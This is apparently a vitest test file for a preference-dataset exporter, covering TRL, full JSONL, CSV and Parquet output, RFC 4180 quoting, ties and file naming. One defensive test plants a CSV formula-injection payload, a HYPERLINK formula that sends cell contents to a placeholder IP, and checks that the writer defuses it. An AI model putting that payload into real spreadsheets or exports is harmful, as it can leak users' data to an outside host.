import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './csv';
import { dataFileName, datasetsLoadCall, EXPORT_FORMATS } from './formats';
import { mergeRecords } from '../merge/merge';
import { plan, rec } from '../merge/test-fixtures';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { FULL_COLUMNS, fullRow, trlConversationalRow, trlRow } from './rows';
import { trickyMerge, writeAll } from './test-fixtures';
import { createFormatWriter } from './writers';

const text = (b: Uint8Array) => new TextDecoder().decode(b);
const jsonl = (b: Uint8Array) =>
  text(b)
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);

describe('rows', () => {
  it('TRL: chosen is the preferred response, on either side', () => {
    const { merged } = trickyMerge();
    const q0 = merged.find((m) => m.record.id === 'q-0')!; // human A>B
    const q3 = merged.find((m) => m.record.id === 'q-3')!; // LM B>>A
    expect(trlRow(q0)).toEqual({ id: 'q-0', prompt: q0.record.prompt, chosen: q0.record.responseA, rejected: q0.record.responseB });
    expect(trlRow(q3)).toEqual({ id: 'q-3', prompt: 'prompt of q-3', chosen: 'B of q-3', rejected: 'A of q-3' });
  });

  it('TRL conversational: the prompt as turns (a single user turn when the record has none), answers as assistant turns', () => {
    const { merged } = trickyMerge({ ties: 'keep' });
    const q3 = merged.find((m) => m.record.id === 'q-3')!;
    expect(trlConversationalRow(q3)).toEqual({
      id: 'q-3',
      prompt: [{ role: 'user', content: 'prompt of q-3' }],
      chosen: [{ role: 'assistant', content: 'B of q-3' }],
      rejected: [{ role: 'assistant', content: 'A of q-3' }],
    });
    const q2 = merged.find((m) => m.record.id === 'q-2')!;
    expect(q2.label).toBe('A=B');
    expect(trlConversationalRow(q2)).toBeNull();
    expect(trlRow(q2)).toBeNull();
  });

  it("full: both labels, annotations, provenance, the dataset's own human label apart", () => {
    const { merged } = trickyMerge();
    const q0 = fullRow(
      merged.find((m) => m.record.id === 'q-0')!,
      ['rouge::min_val=0.0|max_val=0.33'],
    );
    expect(q0).toMatchObject({
      id: 'q-0',
      idx: 0,
      label: 'A>B',
      winner: 'A',
      label_source: 'human',
      routed: true,
      gain: 0.75,
      pref_human: 'A>B',
      human_from: 'annotations',
      human_votes: ['A>>B', 'A>B'],
      pref_lm: 'B>A',
      lm_judge: 'judge-x',
      model_a: 'model-a',
      model_b: null,
      original_pref_human: null,
      hyper_tags: ['rouge::min_val=0.0|max_val=0.33'],
      scores: { rouge: 0.25 },
      extra: { source: 'demo', nested: { k: [1, 2] } },
    });
    expect((q0.annotations as { rationale: string }[]).map((a) => a.rationale)).toEqual(['clearer, "shorter"', '']);
    const q1 = fullRow(merged.find((m) => m.record.id === 'q-1')!);
    expect(q1).toMatchObject({
      label: 'A>>B',
      label_source: 'lm',
      routed: false,
      gain: null,
      pref_human: null,
      human_votes: [],
      original_pref_human: 'B>A',
      original_human_votes: ['B>A', 'A=B'],
      hyper_tags: null,
    });
    const q4 = fullRow(merged.find((m) => m.record.id === 'q-4')!);
    // Annotated (under another plan), not routed: the human label is kept, and the row says it was not routed.
    expect(q4).toMatchObject({ label: 'B>A', label_source: 'human', routed: false, human_votes: ['B>A'] });
    expect(q4.annotations).toHaveLength(1);
    expect(Object.keys(q0)).toEqual(FULL_COLUMNS.map((c) => c.name));
  });
});

describe('CSV quoting (RFC 4180)', () => {
  it('quotes fields with commas, quotes, CR or LF, and fields with outer whitespace; doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "x"')).toBe('"say ""x"""');
    expect(csvField('l1\nl2')).toBe('"l1\nl2"');
    expect(csvField('l1\rl2')).toBe('"l1\rl2"');
    expect(csvField(' pad')).toBe('" pad"');
    expect(csvField('')).toBe('');
    expect(csvLine(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
  });
});

describe('format writers', () => {
  it('TRL JSONL: one row per non-tie record; kept ties are skipped and counted', () => {
    const { merged } = trickyMerge({ ties: 'keep' });
    for (const format of ['trl', 'trl-conversational'] as const) {
      const w = createFormatWriter(format);
      const rows = jsonl(writeAll(w, merged));
      expect(rows.map((r) => r.id)).toEqual(['q-0', 'q-1', 'q-3', 'q-4']);
      expect(w.stats).toMatchObject({ rows: 4, skippedTies: 1 });
    }
  });

  it('full JSONL keeps ties with their label; chunking does not change the bytes', () => {
    const { merged } = trickyMerge({ ties: 'keep' });
    const a = writeAll(createFormatWriter('full'), merged, 1);
    const b = writeAll(createFormatWriter('full'), merged, 100);
    expect(a).toEqual(b);
    const rows = jsonl(a);
    expect(rows.map((r) => [r.id, r.label, r.label_source])).toEqual([
      ['q-0', 'A>B', 'human'],
      ['q-1', 'A>>B', 'lm'],
      ['q-2', 'A=B', 'human'],
      ['q-3', 'B>>A', 'lm'],
      ['q-4', 'B>A', 'human'],
    ]);
  });

  it('CSV: a header, CRLF records, nested fields as JSON; a file with no records still has its header', () => {
    const { merged } = trickyMerge();
    const w = createFormatWriter('csv', { hyperTags: (m) => [`tag-${m.idx}`] });
    const csv = text(writeAll(w, merged));
    expect(csv.startsWith(`${FULL_COLUMNS.map((c) => c.name).join(',')}\r\n`)).toBe(true);
    expect(csv).toContain('"Say ""hi"", then a comma, then\na newline"');
    expect(csv).toContain('"[""A>>B"",""A>B""]"');
    expect(csv).toContain('"[""tag-0""]"');
    expect(w.stats.rows).toBe(4);
    expect(w.stats.bytes).toBe(new TextEncoder().encode(csv).length);
    expect(text(writeAll(createFormatWriter('csv'), []))).toBe(`${FULL_COLUMNS.map((c) => c.name).join(',')}\r\n`);
    expect(writeAll(createFormatWriter('trl'), [])).toHaveLength(0);
  });

  it('CSV: formula-like text cells get an apostrophe (or stay raw on request), NUL becomes U+FFFD, broken surrogates are counted; all in the stats', () => {
    const rs = [rec('f1', 'A>B'), rec('f2', 'B>A'), rec('f3', 'A>B'), rec('f4', 'B>A')];
    rs[0]!.prompt = '=HYPERLINK("http://203.0.113.9/?"&A1, "click")';
    rs[0]!.responseA = '+1 more';
    rs[1]!.responseA = '- a markdown list item';
    rs[1]!.responseB = '@SUM(1+1)';
    rs[2]!.responseA = 'nul\u0000inside';
    rs[3]!.responseB = 'broken \ud800 text';
    const { merged } = mergeRecords(rs, { plan: plan(), annotations: [] });
    const guarded = createFormatWriter('csv');
    const csv = text(writeAll(guarded, merged));
    expect(csv).toContain(`"'=HYPERLINK(""http://203.0.113.9/?""&A1, ""click"")"`);
    expect(csv).toContain("'+1 more");
    expect(csv).toContain("'- a markdown list item");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).not.toContain('\u0000');
    expect(csv).toContain('nul\uFFFDinside');
    expect(guarded.stats.textFixes).toEqual({ formulaGuarded: 4, nulReplaced: 1, loneSurrogates: 1 });
    // A numeric cell (a negative gain) is a number, not text: never touched.
    const raw = createFormatWriter('csv', { csvGuardFormulas: false });
    const rawCsv = text(writeAll(raw, merged));
    expect(rawCsv).toContain('\r\nf2,1,prompt of f2,,- a markdown list item,@SUM(1+1)');
    expect(raw.stats.textFixes).toEqual({ formulaGuarded: 0, nulReplaced: 1, loneSurrogates: 1 });
    // JSON lines change nothing: the surrogate stays as an escape, NUL as \u0000.
    const full = createFormatWriter('full');
    const lines = text(writeAll(full, merged));
    expect(lines).toContain('broken \\ud800 text');
    expect(lines).toContain('nul\\u0000inside');
    expect(full.stats.textFixes).toEqual({ formulaGuarded: 0, nulReplaced: 0, loneSurrogates: 0 });
  });

  it('Parquet counts the text cells whose broken surrogates UTF-8 writes as U+FFFD', async () => {
    const rs = [rec('s1', 'A>B'), rec('s2', 'B>A')];
    rs[1]!.responseB = 'half \udc01 a pair';
    const writer = createFormatWriter('parquet');
    const bytes = writeAll(writer, mergeRecords(rs, { plan: plan(), annotations: [] }).merged);
    expect(writer.stats.textFixes.loneSurrogates).toBe(1);
    const file = bytes.slice().buffer;
    const rows = await parquetReadObjects({ file, metadata: parquetMetadata(file) });
    expect(rows[1]!.response_b).toBe('half \uFFFD a pair');
  });

  it('names the data file without repeating its extension', () => {
    expect(dataFileName('pandalm', 'csv')).toBe('pandalm.csv');
    expect(dataFileName('pandalm', 'parquet')).toBe('pandalm.parquet');
    expect(dataFileName('pandalm', 'trl')).toBe('pandalm.trl.jsonl');
    expect(dataFileName('pandalm', 'full')).toBe('pandalm.full.jsonl');
  });

  it('knows how datasets loads each format', () => {
    expect(EXPORT_FORMATS.map((f) => datasetsLoadCall(f, 'out/x.y'))).toEqual([
      'load_dataset("json", data_files="out/x.y", split="train")',
      'load_dataset("json", data_files="out/x.y", split="train")',
      'load_dataset("json", data_files="out/x.y", split="train")',
      'load_dataset("csv", data_files="out/x.y", split="train")',
      'load_dataset("parquet", data_files="out/x.y", split="train")',
    ]);
  });
});
